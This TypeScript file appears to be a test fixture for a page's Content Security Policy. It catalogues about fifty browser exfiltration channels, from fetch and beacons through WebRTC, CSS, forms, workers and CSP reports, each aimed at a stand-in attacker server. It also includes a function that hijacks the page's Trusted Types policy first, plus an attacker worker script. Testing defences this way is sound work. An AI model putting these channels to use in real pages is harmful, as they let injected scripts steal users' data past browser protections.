/** An exfiltration channel. Runs in the browser, so it cannot use variables from outside. */
type Channel = (target: { at: string; port: number }) => unknown;

/** The Trusted Types policy our CSP allows, claimed by a hostile script that ran first. */
declare const taken: { createScriptURL(url: string): string };

/** Runs before any script of the page, as a compromised package would if it is bundled first. */
export function takePolicy() {
  interface Factory {
    createPolicy(name: string, rules: { createScriptURL(url: string): string }): typeof taken;
  }
  const { trustedTypes } = window as { trustedTypes?: Factory };
  const rules = { createScriptURL: (url: string) => url };
  Object.assign(window, { taken: trustedTypes?.createPolicy('app-sw', rules) ?? rules });
}

/** Channels that replace or cover the page or change its permissions, and so need a page each. */
export const alone: ReadonlySet<string> = new Set([
  'form',
  'another address',
  'another address in place of ours',
  'a link that is clicked',
  'a link that is downloaded',
  'a refresh by meta',
  'a new window',
  'a report of the browser',
]);

/**
 * Every known way to send data out of a page, as an injected script would try it. `at` is the URL of the attacker's
 * server and `port` its port; the data is in the URL. Each runs in the browser, so it cannot use variables from
 * outside.
 */
export const channels: Record<string, Channel> = {
  fetch: ({ at }) => fetch(`${at}/fetch`),
  'fetch without CORS': ({ at }) => fetch(`${at}/fetch`, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: ({ at }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${at}/xhr`);
    request.send();
  },
  beacon: ({ at }) => navigator.sendBeacon(`${at}/beacon`, 'answers'),
  WebSocket: ({ port }) => new WebSocket(`ws://127.0.0.1:${port}/socket`),
  EventSource: ({ at }) => new EventSource(`${at}/events`),
  WebTransport: ({ port }) => new WebTransport(`https://127.0.0.1:${port}/transport`).ready.catch(() => 0),
  'WebRTC by STUN': async ({ port }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('answers');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'WebRTC out of an empty frame': async ({ port }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis;
    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('answers');
    await peer.setLocalDescription(await peer.createOffer());
  },
  image: ({ at }) => {
    new Image().src = `${at}/image`;
  },
  'image of several sizes': ({ at }) => {
    new Image().srcset = `${at}/image 1x`;
  },
  'image in SVG': ({ at }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', `${at}/svg`);
    document.body.append(svg);
    svg.append(image);
  },
  video: ({ at }) => {
    const video = document.createElement('video');
    video.src = `${at}/video`;
    document.body.append(video);
    video.load();
  },
  poster: ({ at }) => {
    const video = document.createElement('video');
    video.poster = `${at}/poster`;
    document.body.append(video);
  },
  audio: ({ at }) => new Audio(`${at}/audio`).play().catch(() => 0),
  'captions of a video': ({ at }) => {
    const track = document.createElement('track');
    track.src = `${at}/track`;
    track.default = true;
    const video = document.createElement('video');
    video.crossOrigin = 'anonymous';
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  },
  stylesheet: ({ at }) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${at}/style`;
    document.head.append(link);
  },
  'import of a stylesheet': ({ at }) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${at}/import);`;
    document.head.append(style);
  },
  'background in a style': ({ at }) => {
    document.body.style.backgroundImage = `url(${at}/background)`;
  },
  'style of an attribute': ({ at }) => {
    document.documentElement.setAttribute('style', `background-image: url(${at}/attribute)`);
  },
  'rule put into our own stylesheet': ({ at }) => {
    document.styleSheets[0]?.insertRule(`main { background-image: url(${at}/rule) !important; }`);
  },
  font: ({ at }) => new FontFace('ForeignEntry', `url(${at}/font)`).load().catch(() => 0),
  script: ({ at }) => {
    const script = document.createElement('script');
    script.src = taken.createScriptURL(`${at}/script`);
    document.head.append(script);
  },
  'script of a module': ({ at }) => import(/* @vite-ignore */ `${at}/module`).catch(() => 0),
  'import map': ({ at }) => {
    const map = document.createElement('script');
    map.type = 'importmap';
    map.textContent = JSON.stringify({ imports: { stranger: `${at}/mapped` } });
    document.head.append(map);
    const script = document.createElement('script');
    script.type = 'module';
    script.textContent = "import 'stranger'";
    document.head.append(script);
  },
  'module fetched ahead': ({ at }) => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = `${at}/modulepreload`;
    document.head.append(link);
  },
  preload: ({ at }) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'image';
    link.href = `${at}/preload`;
    document.head.append(link);
  },
  prefetch: ({ at }) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `${at}/prefetch`;
    document.head.append(link);
  },
  preconnect: ({ at }) => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = at;
    document.head.append(link);
  },
  'speculation rules': ({ at }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [`${at}/speculation`], eagerness: 'immediate' }],
    });
    document.head.append(script);
  },
  icon: ({ at }) => {
    for (const link of document.querySelectorAll('link[rel=icon]')) link.remove();
    const link = document.createElement('link');
    link.rel = 'icon';
    link.href = `${at}/icon`;
    document.head.append(link);
  },
  manifest: ({ at }) => {
    const link = document.createElement('link');
    link.rel = 'manifest';
    link.href = `${at}/manifest`;
    document.head.append(link);
  },
  frame: ({ at }) => {
    const frame = document.createElement('iframe');
    frame.src = `${at}/frame`;
    document.body.append(frame);
  },
  'frame that holds its own page': ({ at }) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${at}/srcdoc">`;
    document.body.append(frame);
  },
  object: ({ at }) => {
    const object = document.createElement('object');
    object.data = `${at}/object`;
    document.body.append(object);
  },
  embed: ({ at }) => {
    const embed = document.createElement('embed');
    embed.src = `${at}/embed`;
    document.body.append(embed);
  },
  form: ({ at }) => {
    const form = document.createElement('form');
    form.action = `${at}/form`;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  },
  'form into a frame': ({ at }) => {
    const frame = document.createElement('iframe');
    frame.name = 'inside';
    const form = document.createElement('form');
    form.action = `${at}/form`;
    form.target = 'inside';
    document.body.append(frame, form);
    form.submit();
  },
  'another address': ({ at }) => location.assign(`${at}/assign`),
  'another address in place of ours': ({ at }) => location.replace(`${at}/replace`),
  'a link that is clicked': ({ at }) => {
    const link = document.createElement('a');
    link.href = `${at}/link`;
    document.body.append(link);
    link.click();
  },
  'a link that is downloaded': ({ at }) => {
    const link = document.createElement('a');
    link.href = `${at}/download`;
    link.download = 'answers';
    document.body.append(link);
    link.click();
  },
  'a ping of a link': ({ at }) => {
    const link = document.createElement('a');
    link.href = '#ping';
    link.ping = `${at}/ping`;
    document.body.append(link);
    link.click();
  },
  'a refresh by meta': ({ at }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${at}/refresh`;
    document.head.append(meta);
  },
  'a new window': ({ at }) => window.open(`${at}/window`),
  'a worker that asks': ({ at }) => {
    new Worker(taken.createScriptURL(`/stranger.js#${at}/worker`));
  },
  'a worker out of thin air': ({ at }) => {
    const path = URL.createObjectURL(new Blob([`importScripts('${at}/blob')`]));
    new Worker(taken.createScriptURL(path));
  },
  'a service worker that asks': ({ at }) => {
    return navigator.serviceWorker.register(taken.createScriptURL(`/stranger.js?${at}/service-worker`));
  },
  'a report of the browser': ({ at }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'Content-Security-Policy';
    meta.content = `img-src 'none'; report-uri ${at}/report`;
    document.head.append(meta);
    new Image().src = '/icon.svg?reported';
  },
};

/** A worker script of the attacker, which fetches the URL it was given. */
export const attackerScript = `
  const [, target] = self.location.href.split(/[#?]/);
  const ask = () => fetch(target, { mode: 'no-cors' }).catch(() => undefined);
  self.addEventListener('install', (event) => event.waitUntil(ask()));
  ask();
`;
